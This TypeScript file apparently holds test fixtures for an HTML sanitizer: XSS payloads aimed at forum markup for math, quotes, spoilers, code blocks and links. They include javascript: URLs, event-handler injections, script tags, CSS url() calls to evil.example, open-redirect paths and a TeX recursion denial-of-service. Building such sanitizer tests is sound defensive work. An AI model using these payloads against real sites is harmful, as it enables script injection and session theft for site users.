import { payloads } from '../payload';

const TEX = [
  '\\href{javascript:boom()}{x}',
  '\\url{javascript:boom()}',
  '\\includegraphics{https://evil.example/a.png}',
  '\\class{x}{\\style{background:url(https://evil.example)}{y}}',
  '\\htmlId{x}{y}\\htmlData{onclick=boom()}{y}',
  '\\text{<img src=x onerror=boom()>}',
  '\\text{</annotation><script>boom()</script>}',
  '\\color{red;background:url(https://evil.example)}x',
  '\\colorbox{"><script>boom()}{x}',
  '\\unicode{x3c}script\\unicode{x3e}boom()',
  '\\def\\x{\\x\\x}\\x',
  '\\require{html}\\href{javascript:boom()}{x}',
  '\\label{"><img src=x onerror=boom()>}\\ref{"><img>}',
  '\\ce{<img src=x onerror=boom()>}',
];

/** Attacks on the markup that the sanitizer creates: quotes, spoilers, players, formulas, code, notes. */
export const NORMALIZED_MARKUP = payloads('normalized markup', [
  ...TEX.flatMap((tex) => {
    const escaped = tex.replaceAll('<', '&lt;');
    return [`<span class="math">${escaped}</span>`, `<div class="math">$$${escaped}$$</div>`];
  }),
  '<aside class="quote" data-username="<img src=x onerror=boom()>" data-post="1" data-topic="1"><div class="title"></div><blockquote>x</blockquote></aside>',
  '<aside class="quote" data-username="x" data-post="1" data-topic="javascript:boom()"><div class="title"><a href="javascript:boom()">t</a></div><blockquote><script>boom()</script></blockquote></aside>',
  '<aside class="quote" data-topic="../../evil" data-post="1"><blockquote>x</blockquote></aside>',
  '<blockquote class="ipsQuote" data-ipsquote-username="&quot;><script>boom()</script>" data-ipsquote-contentid="1" data-ipsquote-contentcommentid="javascript:boom()"><p>x</p></blockquote>',
  '<blockquote class="ipsBlockquote" data-author="<b onclick=boom()>x" data-cid="1/../../evil"><p>x</p></blockquote>',
  '<blockquote><div><cite><img src=x onerror=boom()> wrote: <a href="javascript:boom()//viewtopic.php?p=1">x</a></cite>y</div></blockquote>',
  '<div class="ipsSpoiler"><div class="ipsSpoiler_header"><img src=x onerror=boom()></div><div class="ipsSpoiler_contents"><script>boom()</script></div></div>',
  '<span class="spoiler" onfocus=boom() autofocus tabindex=0>x</span>',
  '<details class="spoiler" open ontoggle=boom()><summary onclick=boom()>x</summary><img src=x onerror=boom()></details>',
  '<div class="bbc_spoiler"><input type=button onclick=boom() class=bbc_spoiler_show><div style="display:none">x</div></div>',
  '<iframe src="https://evil.example/" title="&quot;><script>boom()</script>"></iframe>',
  '<object data="javascript:boom()"><param name=x value=y></object>',
  '<video><source src="data:text/html,<script>boom()</script>"></video>',
  '<pre><code class="language-javascript onload=boom()">boom()</code></pre>',
  '<pre class="code html"><img src=x onerror=boom()></pre>',
  '<pre><code class="lang-__proto__">x</code></pre><pre><code class="lang-constructor">x</code></pre>',
  '<span class="hljs-string" onclick=boom()>x</span>',
  '<div class="scroll" tabindex="99" onscroll=boom()><table><tr><td>x</table></div>',
  '<div class="too-big" onclick=boom()><pre>x</pre></div>',
  '<a class="image-off" href="javascript:boom()">x</a>',
  '<a class="lightbox" href="javascript:boom()"><img src="https://ok.example/a.png"><div class="meta"><svg><use href="https://evil.example/#x"></use></svg>m</div></a>',
  '<aside class="onebox" data-onebox-src="https://evil.example"><header><img src=x onerror=boom()></header><h3><a href="javascript:boom()">x</a></h3></aside>',
  '<div class="secedit"><form action=https://evil.example/><button>Edit</button></form></div>',
  '<a class="wikilink1" href="/wiki/../../javascript:boom()" data-wiki-id="x">x</a>',
  '<a href="/doku.php?id=%22%3E%3Cscript%3Eboom()%3C/script%3E">x</a>',
  '<a href="/index.php?showtopic=1%22%3E%3Cscript%3E">x</a>',
  '<a href="https://old.example//evil.example/wiki/pages/x">x</a>',
  '<a href="////evil.example">x</a><a href="/%2f/evil.example">x</a>',
  '<span class="katex"><span class="katex-mathml"><math><semantics><mi>x</mi><annotation encoding="application/x-tex">\\href{javascript:boom()}{x}</annotation></semantics></math></span><span class="katex-html" onclick=boom()>x</span></span>',
  '<input type=checkbox checked onclick=boom() autofocus onfocus=boom()>',
  '<p>\u202e\u2066gnp.exe\u2069</p>',
  `<p>${'\u0301'.repeat(300)}</p>`,
]);
